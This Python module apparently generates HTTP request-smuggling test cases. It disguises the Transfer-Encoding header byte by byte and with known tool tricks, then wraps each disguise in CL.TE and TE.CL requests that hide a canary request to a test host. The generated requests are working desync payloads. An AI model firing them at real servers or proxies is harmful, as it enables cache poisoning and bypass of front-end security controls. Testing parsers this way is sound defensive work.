"""Messages with one byte changed, and requests that say twice where their body ends, the second time in disguise.

A Transfer-Encoding line is disguised by one byte at a time, at every place of it and in every value that the byte can
have, and by the known tricks of smuggling tools. Each disguise comes with a body that one framing ends early (CL.TE)
and with one that the other does (TE.CL), and in what would be left over stands a request of its own.
"""

from collections.abc import Iterable, Iterator
from typing import Final

BYTES: Final = (*range(0x21), *range(0x7F, 0x100))
TEMPLATES: Final = (
    b"%bTransfer-Encoding: chunked",
    b"Transfer-Encoding%b: chunked",
    b"Transfer-Encoding:%bchunked",
    b"Transfer-Encoding: chunked%b",
    b"Transfer-Encoding: %bchunked",
    b"Transfer%bEncoding: chunked",
    b"X: X%bTransfer-Encoding: chunked",
    b"X: X\r%bTransfer-Encoding: chunked",
    b"X: X%b\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r%b",
    b"Transfer-Encoding\r%b: chunked",
    b"Transfer-Encoding:%b\nchunked",
)
KNOWN: Final = (
    *(b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked", b"Transfer-Encoding : chunked"),
    *(b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: chunk"),
    *(b"Transfer-Encoding: cow, chunked", b"Transfer-Encoding: chunked, cow"),
    *(b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked"),
    *(b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,"),
    *(b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: xchunked"),
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    *(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked"),
    *(b"Transfer-Encoding: CHUNKED", b"TRANSFER-ENCODING: chunked", b"tRaNsFeR-eNcOdInG: cHuNkEd"),
    *(b"Content-Encoding: chunked", b"TE: chunked", b"Transfer-Encoding:", b"Transfer-Encoding", b": chunked"),
    *(b" Transfer-Encoding: chunked", b"\tTransfer-Encoding: chunked", b"X:\nTransfer-Encoding: chunked"),
    *(b"X: y\rTransfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked"),
    *(b"Foo: bar\n\rTransfer-Encoding: chunked", b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked"),
    *(b"Transfer-Encoding: chunked\x00, identity", b"\xd4ransfer-Encoding: chunked"),
    *(b"Transfer-Encoding: chun\xebed", b"Transfer\x2dEncoding\x3a\x20chunked"),
)  # fmt: skip
CANARY: Final = b"GET /api/smuggled HTTP/1.1\r\nHost: gateway.test\r\n\r\n"


def with_every_byte(raw: bytes, values: Iterable[int]) -> Iterator[bytes]:
    """A message with each of these bytes in each place of it, instead of what stands there and before it."""
    for place in range(len(raw) + 1):
        yield raw[:place] + raw[place + 1 :]
        for value in values:
            yield raw[:place] + bytes([value]) + raw[place:]
            yield raw[:place] + bytes([value]) + raw[place + 1 :]


def disguises() -> Iterator[bytes]:
    """Every line, or lines, in place of `Transfer-Encoding: chunked`."""
    for template in TEMPLATES:
        yield from (template.replace(b"%b", bytes([byte])) for byte in BYTES)
    yield from KNOWN


def cl_te(start: bytes, disguise: bytes) -> bytes:
    """A request whose length takes in the canary, that a chunked body leaves outside."""
    body = b"0\r\n\r\n" + CANARY
    return start + b"Content-Length: %d\r\n" % len(body) + disguise + b"\r\n\r\n" + body


def te_cl(start: bytes, disguise: bytes) -> bytes:
    """A request whose chunked body takes in the canary, that its length leaves outside."""
    size = b"%x\r\n" % len(CANARY)
    body = size + CANARY + b"\r\n0\r\n\r\n"
    return start + disguise + b"\r\nContent-Length: %d\r\n\r\n" % len(size) + body


def smuggled(start: bytes) -> list[bytes]:
    """All of them; `start` is a request line and fields."""
    return [make(start, disguise) for disguise in disguises() for make in (cl_te, te_cl)]
